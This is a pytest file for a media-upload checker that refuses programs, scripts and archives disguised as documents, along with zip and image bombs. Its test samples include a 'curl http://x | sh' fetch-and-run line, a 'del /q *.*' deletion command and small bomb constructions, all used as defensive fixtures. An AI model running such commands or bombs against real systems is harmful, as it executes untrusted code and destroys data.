"""Files are what they claim to be: disguised programs, fake Office files and bombs refused."""

from __future__ import annotations

import io
import struct
import tarfile
import zipfile
import zlib
from pathlib import Path

import pytest

from tests import media_samples as samples
from tests.fakes import InMemoryMediaStore
from waconnect.media.examine import examine_file, examine_stored, judge_head
from waconnect.media.images import MAX_PIXELS
from waconnect.media.ooxml import MAX_EXPANDED_BYTES
from waconnect.media.sniff import DOCX, XLSX


def _tar() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        info = tarfile.TarInfo("readme.txt")
        info.size = 5
        archive.addfile(info, io.BytesIO(b"hello"))
    return buffer.getvalue()


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


DISGUISED: dict[str, tuple[bytes, str]] = {
    "windows-exe": (b"MZ\x90\x00\x03" + bytes(200), "a Windows program"),
    "linux-elf": (b"\x7fELF\x02\x01\x01" + bytes(200), "a Linux program"),
    "macos-macho": (b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(200), "a macOS program"),
    "shell-script": (b"#!/bin/sh\ncurl http://x | sh\n", "a script"),
    "web-page": (b"<!DOCTYPE html><html><script>alert(1)</script>", "a web page"),
    "batch": (b"@echo off\r\ndel /q *.*\r\n", "a Windows batch script"),
    "svg": (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>', "an SVG"),
    "7z": (b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(100), "a 7-Zip archive"),
    "rar": (b"Rar!\x1a\x07\x01\x00" + bytes(100), "a RAR archive"),
    "gzip": (b"\x1f\x8b\x08\x00" + bytes(100), "a gzip archive"),
    "tar": (_tar(), "a tar archive"),
    "android-app": (_zip({"AndroidManifest.xml": b"<manifest/>", "classes.dex": b"dex\n"}), "app"),
    "java-jar": (_zip({"META-INF/MANIFEST.MF": b"Main-Class: x\n"}), "a Java program"),
}


@pytest.mark.parametrize("declared", ["application/pdf", "image/jpeg", "application/octet-stream"])
@pytest.mark.parametrize("kind", sorted(DISGUISED))
def test_programs_scripts_and_archives_named_as_documents_are_refused(
    kind: str, declared: str
) -> None:
    data, what = DISGUISED[kind]
    found = judge_head(data, declared=declared, filename="invoice.pdf")
    assert found.refused
    assert what in found.refusal
    assert "disguised as “invoice.pdf”" in found.refusal


def test_an_honestly_named_program_is_refused_too_without_calling_it_disguised() -> None:
    data, _ = DISGUISED["windows-exe"]
    found = judge_head(data, declared="application/x-msdownload", filename="setup.exe")
    assert found.refusal == (
        "it is a Windows program; programs, scripts and archives are not passed on"
    )


@pytest.mark.parametrize("declared", ["application/pdf", "image/png", "application/msword"])
def test_unrecognised_bytes_never_inherit_a_declared_document_or_image_type(
    declared: str,
) -> None:
    found = judge_head(bytes(range(256)) * 2, declared=declared, filename="report.pdf")
    assert (found.content_type, found.sniffed, found.refused) == (
        "application/octet-stream",
        None,
        False,
    )


@pytest.mark.parametrize(
    "data",
    [samples.pdf_file(), samples.image_file("jpeg"), samples.office_file("docx"), b"hello\n"],
    ids=["pdf", "jpeg", "docx", "text"],
)
def test_genuine_files_pass(tmp_path: Path, data: bytes) -> None:
    path = tmp_path / "file"
    path.write_bytes(data)
    assert not examine_file(path, declared="", filename="file").refused


def test_a_zip_renamed_docx_is_not_a_word_document(tmp_path: Path) -> None:
    path = tmp_path / "report.docx"
    path.write_bytes(_zip({"word/notes.txt": b"not a document"}))
    found = examine_file(path, declared=DOCX, filename="report.docx")
    assert found.refusal == "it is a zip file, not a Word document (it has no [Content_Types].xml)"


def test_a_zip_bomb_dressed_as_a_workbook_is_refused_before_it_is_expanded(
    tmp_path: Path,
) -> None:
    bomb = _zip(
        {
            "[Content_Types].xml": b"<Types/>",
            "_rels/.rels": b"<Relationships/>",
            "xl/workbook.xml": b"<workbook/>",
            "xl/sharedStrings.xml": bytes(MAX_EXPANDED_BYTES + 1),
        }
    )
    assert len(bomb) < 2 * 1024 * 1024
    path = tmp_path / "prices.xlsx"
    path.write_bytes(bomb)
    found = examine_file(path, declared=XLSX, filename="prices.xlsx")
    assert "zip bomb" in found.refusal


def test_a_member_far_more_compressed_than_any_document_is_a_bomb(tmp_path: Path) -> None:
    path = tmp_path / "letter.docx"
    path.write_bytes(
        _zip(
            {
                "[Content_Types].xml": b"<Types/>",
                "_rels/.rels": b"<Relationships/>",
                "word/document.xml": bytes(64 * 1024 * 1024),
            }
        )
    )
    assert "zip bomb" in examine_file(path, declared=DOCX, filename="letter.docx").refusal


def _png_header(width: int, height: int) -> bytes:
    """A PNG that claims ``width`` × ``height`` pixels and holds a few bytes of them."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", ihdr)
        + chunk(b"IDAT", zlib.compress(bytes(1024)))
        + chunk(b"IEND", b"")
    )


@pytest.mark.parametrize("side", [20_000, 100_000])
def test_an_image_claiming_more_pixels_than_any_camera_is_a_bomb(tmp_path: Path, side: int) -> None:
    assert side * side > MAX_PIXELS
    path = tmp_path / "photo.png"
    path.write_bytes(_png_header(side, side))
    assert "image bomb" in examine_file(path, declared="image/png", filename="photo.png").refusal


def test_a_large_but_real_photo_size_is_not_a_bomb(tmp_path: Path) -> None:
    path = tmp_path / "photo.png"
    path.write_bytes(_png_header(8000, 6000))
    assert not examine_file(path, declared="image/png", filename="photo.png").refused


def test_examining_a_stored_file_reads_it_from_the_store() -> None:
    store = InMemoryMediaStore(chunk_size=100)
    data, _ = DISGUISED["windows-exe"]
    media = store.put("in/x", [data], content_type="application/pdf", filename="invoice.pdf")
    found = examine_stored(store, media, declared="application/pdf", filename="invoice.pdf")
    assert "a Windows program disguised as “invoice.pdf”" in found.refusal
